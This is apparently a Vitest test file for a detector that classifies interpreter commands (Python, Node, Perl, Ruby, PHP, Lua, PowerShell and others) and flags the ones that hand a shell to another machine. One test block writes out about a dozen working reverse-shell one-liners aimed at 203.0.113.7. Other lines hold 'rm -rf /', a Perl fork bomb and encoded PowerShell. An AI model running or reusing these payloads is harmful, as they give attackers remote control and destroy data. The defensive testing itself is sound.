import { describe, expect, it } from 'vitest';
import { recordDoing } from '../record-doing.js';
import { quotedWords } from './quoted-words.js';

/** A command, then what is reported of it. */
type Line = readonly [command: string, ...reports: string[]];

describe('proves that only a version or help is printed', () => {
  const lines: readonly Line[] = [
    ['python3 --version'],
    ['python3 -V'],
    ['python --version'],
    ['python3 --help'],
    ['node -v'],
    ['node --version'],
    ['perl -v'],
    ['ruby -v'],
    ['ruby --version'],
    ['php -v'],
    ['java -version'],
    ['java --version'],
    ['lua -v'],
    ['julia --version'],
    ['Rscript --version'],
    ['scala -version'],
    ['groovy --version'],
    ['guile --version'],
    ['racket --version'],
    ['sbcl --version'],
    ['elixir --version'],
    ['pwsh --version'],
    ['m4 --version'],
    ['octave --version'],
    ['gnuplot --version'],
    ['tsx --version'],
  ];
  it.each(lines)('%s', (command, ...reports) => {
    expect(recordDoing(quotedWords(command))).toEqual(reports);
  });
});

describe('does not look into code of other languages', () => {
  const lines: readonly Line[] = [
    ["python3 -c 'print(1)'", 'inline it runs code in Python that is not looked into'],
    ["python3 -Bc 'print(1)' a.txt", 'inline it runs code in Python that is not looked into'],
    ["python3 -u -W ignore -c 'print(1)'", 'inline it runs code in Python that is not looked into'],
    ['python -c "$X"', 'unread which code in Python it runs is not known: "$X" is not known'],
    ["node -e '1'", 'inline it runs code in JavaScript that is not looked into'],
    ["node --eval '1'", 'inline it runs code in JavaScript that is not looked into'],
    ['node --eval=1', 'inline it runs code in JavaScript that is not looked into'],
    ["node -p 'process.env'", 'inline it runs code in JavaScript that is not looked into'],
    ["node -pe '1'", 'inline it runs code in JavaScript that is not looked into'],
    [
      'node -r ./x.js -e 1',
      'read ./x.js',
      'unknown `node` runs what is written in `./x.js`',
      'inline it runs code in JavaScript that is not looked into',
    ],
    ["perl -e 'fork while 1'", 'inline it runs code in Perl that is not looked into'],
    ["perl -ne 'print' a.txt", 'inline it runs code in Perl that is not looked into', 'read a.txt'],
    [
      "perl -pi -e 's/a/b/' a.txt b.txt",
      'inline it runs code in Perl that is not looked into',
      'write a.txt',
      'write b.txt',
    ],
    ["perl -i.bak -pe 's/a/b/' a.txt", 'inline it runs code in Perl that is not looked into', 'write a.txt'],
    ["perl -lane 'print' a.txt", 'inline it runs code in Perl that is not looked into', 'read a.txt'],
    ["perl -0777 -ne 'print' a.txt", 'inline it runs code in Perl that is not looked into', 'read a.txt'],
    ["perl -MList::Util -E 'say 1'", 'inline it runs code in Perl that is not looked into'],
    ["ruby -e 'puts 1'", 'inline it runs code in Ruby that is not looked into'],
    ["ruby -pi -e 'x' a.txt", 'inline it runs code in Ruby that is not looked into', 'write a.txt'],
    ["ruby -rjson -ne 'x' a.txt", 'inline it runs code in Ruby that is not looked into', 'read a.txt'],
    ["php -r 'echo 1;'", 'inline it runs code in PHP that is not looked into'],
    ['lua -e \'os.execute("id")\'', 'inline it runs code in Lua that is not looked into'],
    ["Rscript -e '1'", 'inline it runs code in R that is not looked into'],
    ["R -e '1'", 'inline it runs code in R that is not looked into'],
    ["julia -e '1'", 'inline it runs code in Julia that is not looked into'],
    ['julia --eval=1', 'inline it runs code in Julia that is not looked into'],
    ["scala -e '1'", 'inline it runs code in Scala that is not looked into'],
    ["groovy -e '1'", 'inline it runs code in Groovy that is not looked into'],
    ["osascript -e 'beep'", 'inline it runs code in AppleScript that is not looked into'],
    [
      'osascript -e \'do shell script "rm -rf /"\'',
      'script rm -rf /',
      'inline it runs code in AppleScript that is not looked into',
    ],
    ["pwsh -Command 'ls'", 'inline it runs code in PowerShell that is not looked into'],
    ["pwsh -c 'ls'", 'inline it runs code in PowerShell that is not looked into'],
    ['pwsh -EncodedCommand AAAA', 'unread what `pwsh` runs is not written in plain text'],
    ['powershell -NoProfile -enc AAAA', 'unread what `powershell` runs is not written in plain text'],
    ["guile -c '1'", 'inline it runs code in Scheme that is not looked into'],
    ["racket -e '1'", 'inline it runs code in Scheme that is not looked into'],
    ["sbcl --eval '1'", 'inline it runs code in Lisp that is not looked into'],
    ["elixir -e '1'", 'inline it runs code in Elixir that is not looked into'],
    ["erl -noshell -eval '1'", 'inline it runs code in Erlang that is not looked into'],
    ["expect -c 'spawn ls'", 'inline it runs code in Tcl that is not looked into'],
    ["octave --eval '1'", 'inline it runs code in Octave that is not looked into'],
    ["gnuplot -e '1'", 'inline it runs code in Gnuplot that is not looked into'],
  ];
  it.each(lines)('%s', (command, ...reports) => {
    expect(recordDoing(quotedWords(command))).toEqual(reports);
  });
});

describe('reads the files that run', () => {
  const lines: readonly Line[] = [
    ['python3 tools/x.py', 'read tools/x.py', 'unknown `python3` runs what is written in `tools/x.py`'],
    ['python3 -u tools/x.py -c a', 'read tools/x.py', 'unknown `python3` runs what is written in `tools/x.py`'],
    ['python3 -m http.server', 'unknown `python3` runs the module `http.server`'],
    ['python3 -m json.tool a.json', 'unknown `python3` runs the module `json.tool`'],
    ['python3 -m "$M"', 'unread which module `python3` runs is not known: "$M" is not known'],
    ['python3 "$X"', 'read <"$X" is not known>', 'unread what `python3` runs is not known: "$X" is not known'],
    ['node x.js', 'read x.js', 'unknown `node` runs what is written in `x.js`'],
    ['node --check x.js', 'read x.js', 'unknown `node` runs what is written in `x.js`'],
    ['node --test', 'unknown `node` runs what is typed'],
    [
      'node -r ./x.js',
      'read ./x.js',
      'unknown `node` runs what is written in `./x.js`',
      'unknown `node` runs what is typed',
    ],
    [
      'node --import ./x.js y.js',
      'read ./x.js',
      'unknown `node` runs what is written in `./x.js`',
      'read y.js',
      'unknown `node` runs what is written in `y.js`',
    ],
    ['node inspect x.js', 'unknown what `node inspect` does is not known'],
    ['perl x.pl', 'read x.pl', 'unknown `perl` runs what is written in `x.pl`'],
    ['ruby x.rb', 'read x.rb', 'unknown `ruby` runs what is written in `x.rb`'],
    ['php x.php', 'read x.php', 'unknown `php` runs what is written in `x.php`'],
    ['php -f x.php', 'read x.php', 'unknown `php` runs what is written in `x.php`'],
    ['php -S 127.0.0.1:80', 'unknown `php` runs what is typed'],
    ['lua x.lua', 'read x.lua', 'unknown `lua` runs what is written in `x.lua`'],
    ['java -jar x.jar', 'read x.jar', 'unknown `java` runs what is written in `x.jar`'],
    ['java -cp . Main', 'read Main', 'unknown `java` runs what is written in `Main`'],
    ['jshell', 'unknown `jshell` runs what is typed'],
    ['tclsh x.tcl', 'read x.tcl', 'unknown `tclsh` runs what is written in `x.tcl`'],
    ['expect x.exp', 'read x.exp', 'unknown `expect` runs what is written in `x.exp`'],
    ['expect -f x.exp', 'read x.exp', 'unknown `expect` runs what is written in `x.exp`'],
    ['runghc x.hs', 'read x.hs', 'unknown `runghc` runs what is written in `x.hs`'],
    ['Rscript x.R', 'read x.R', 'unknown `Rscript` runs what is written in `x.R`'],
    ['julia x.jl', 'read x.jl', 'unknown `julia` runs what is written in `x.jl`'],
    ['elixir x.exs', 'read x.exs', 'unknown `elixir` runs what is written in `x.exs`'],
    ['pwsh x.ps1', 'read x.ps1', 'unknown `pwsh` runs what is written in `x.ps1`'],
    ['pwsh -File x.ps1', 'read x.ps1', 'unknown `pwsh` runs what is written in `x.ps1`'],
    ['m4 x.m4', 'read x.m4', 'unknown `m4` runs what is written in `x.m4`'],
    ['wish x.tcl', 'read x.tcl', 'unknown `wish` runs what is written in `x.tcl`'],
  ];
  it.each(lines)('%s', (command, ...reports) => {
    expect(recordDoing(quotedWords(command))).toEqual(reports);
  });
});

describe('does not know what is typed', () => {
  const lines: readonly Line[] = [
    ['python3', 'unknown `python3` runs what is typed'],
    ['node', 'unknown `node` runs what is typed'],
    ['node -', 'unknown `node` runs what is typed'],
    ['irb', 'unknown `irb` runs what is typed'],
    ['ghci', 'unknown `ghci` runs what is typed'],
    ['iex', 'unknown `iex` runs what is typed'],
    ['perl', 'unknown `perl` runs what is typed'],
  ];
  it.each(lines)('%s', (command, ...reports) => {
    expect(recordDoing(quotedWords(command))).toEqual(reports);
  });
});

describe('cannot read code that comes from the input', () => {
  const lines: readonly Line[] = [
    ['python3', 'unread what `python3` runs comes from its input'],
    ['python3 -', 'unread what `python3` runs comes from its input'],
    ['node', 'unread what `node` runs comes from its input'],
    ['perl', 'unread what `perl` runs comes from its input'],
    ['ruby /dev/stdin', 'unread what `ruby` runs comes from its input'],
    ['java', 'unknown `java` runs what is typed'],
  ];
  it.each(lines)('%s', (command, ...reports) => {
    expect(recordDoing(quotedWords(command), { input: { kind: 'piped', text: 'print(1)' } })).toEqual(reports);
  });
});

describe('forbids to hand a shell to another machine', () => {
  const lines: readonly Line[] = [
    [
      'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")\'',
      'forbid `python3` would hand a shell to another machine',
      'inline it runs code in Python that is not looked into',
    ],
    [
      'python -c \'from socket import *;import subprocess;s=socket();s.connect(("203.0.113.7",1));subprocess.call(["sh","-i"])\'',
      'forbid `python` would hand a shell to another machine',
      'inline it runs code in Python that is not looked into',
    ],
    [
      'perl -e \'use Socket;$i="203.0.113.7";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\'',
      'forbid `perl` would hand a shell to another machine',
      'inline it runs code in Perl that is not looked into',
    ],
    [
      'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:1");STDIN->fdopen($c,r);system$_ while<>;\'',
      'forbid `perl` would hand a shell to another machine',
      'inline it runs code in Perl that is not looked into',
    ],
    [
      'ruby -rsocket -e \'f=TCPSocket.open("203.0.113.7",1).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\'',
      'forbid `ruby` would hand a shell to another machine',
      'inline it runs code in Ruby that is not looked into',
    ],
    [
      'php -r \'$s=fsockopen("203.0.113.7",1);exec("/bin/sh -i <&3 >&3 2>&3");\'',
      'forbid `php` would hand a shell to another machine',
      'inline it runs code in PHP that is not looked into',
    ],
    [
      'lua -e \'require("socket");t=socket.tcp();t:connect("203.0.113.7","1");os.execute("/bin/sh -i <&3")\'',
      'forbid `lua` would hand a shell to another machine',
      'inline it runs code in Lua that is not looked into',
    ],
    [
      'node -e \'require("child_process").exec("bash -i >& /dev/tcp/203.0.113.7/1 0>&1")\'',
      'forbid `node` would hand a shell to another machine',
      'inline it runs code in JavaScript that is not looked into',
    ],
    [
      'node -e \'var n=require("net"),s=require("child_process").spawn("sh",[]);n.connect(1,"203.0.113.7",function(){this.pipe(s.stdin)})\'',
      'forbid `node` would hand a shell to another machine',
      'inline it runs code in JavaScript that is not looked into',
    ],
    [
      'pwsh -c \'$c=New-Object System.Net.Sockets.TCPClient("203.0.113.7",1);iex $d\'',
      'forbid `pwsh` would hand a shell to another machine',
      'inline it runs code in PowerShell that is not looked into',
    ],
    [
      'python3 -c \'import os;os.system("bash -i >& /dev/tcp/203.0.113.7/1 0>&1")\'',
      'forbid `python3` would hand a shell to another machine',
      'inline it runs code in Python that is not looked into',
    ],
    [
      "tclsh -c 'set s [socket 203.0.113.7 1];exec /bin/sh'",
      'forbid `tclsh` would hand a shell to another machine',
      'read set s [socket 203.0.113.7 1];exec /bin/sh',
      'unknown `tclsh` runs what is written in `set s [socket 203.0.113.7 1];exec /bin/sh`',
    ],
    ["python3 -c 'import socket;print(socket.gethostname())'", 'inline it runs code in Python that is not looked into'],
    [
      'python3 -c \'import socket;s=socket.socket();s.connect(("127.0.0.1",80))\'',
      'inline it runs code in Python that is not looked into',
    ],
    [
      'node -e \'require("child_process").execSync("ls")\'',
      'inline it runs code in JavaScript that is not looked into',
    ],
  ];
  it.each(lines)('%s', (command, ...reports) => {
    expect(recordDoing(quotedWords(command))).toEqual(reports);
  });
});

describe('does not trust a version when the environment loads code', () => {
  const lines: readonly (readonly [command: string, variable: string, report: string])[] = [
    ['node --version', 'NODE_OPTIONS', 'unknown `NODE_OPTIONS` makes `node` load other code'],
    ['perl -v', 'PERL5OPT', 'unknown `PERL5OPT` makes `perl` load other code'],
    ['ruby -v', 'RUBYOPT', 'unknown `RUBYOPT` makes `ruby` load other code'],
    ['java -version', 'JAVA_TOOL_OPTIONS', 'unknown `JAVA_TOOL_OPTIONS` makes `java` load other code'],
    ['lua -v', 'LUA_INIT', 'unknown `LUA_INIT` makes `lua` load other code'],
  ];
  it.each(lines)('%s with %s', (command, variable, report) => {
    expect(recordDoing(quotedWords(command), { scene: { env: { [variable]: 'x' } } })).toEqual([report]);
  });
});

it('finds a reverse shell in code that comes from the input', () => {
  const text = 'import socket,os\ns=socket.socket()\ns.connect(("203.0.113.7",1))\nos.dup2(s.fileno(),0)';
  expect(recordDoing(['python3'], { input: { kind: 'piped', text } })).toEqual([
    'forbid `python3` would hand a shell to another machine',
    'unread what `python3` runs comes from its input',
  ]);
});

it('searches long code in linear time', () => {
  const started = performance.now();
  recordDoing(['python3', '-c', `socket.socket${' /s'.repeat(100_000)}`]);
  recordDoing(['osascript', '-e', 'do shell script "'.repeat(20_000)]);
  expect(performance.now() - started).toBeLessThan(1000);
});
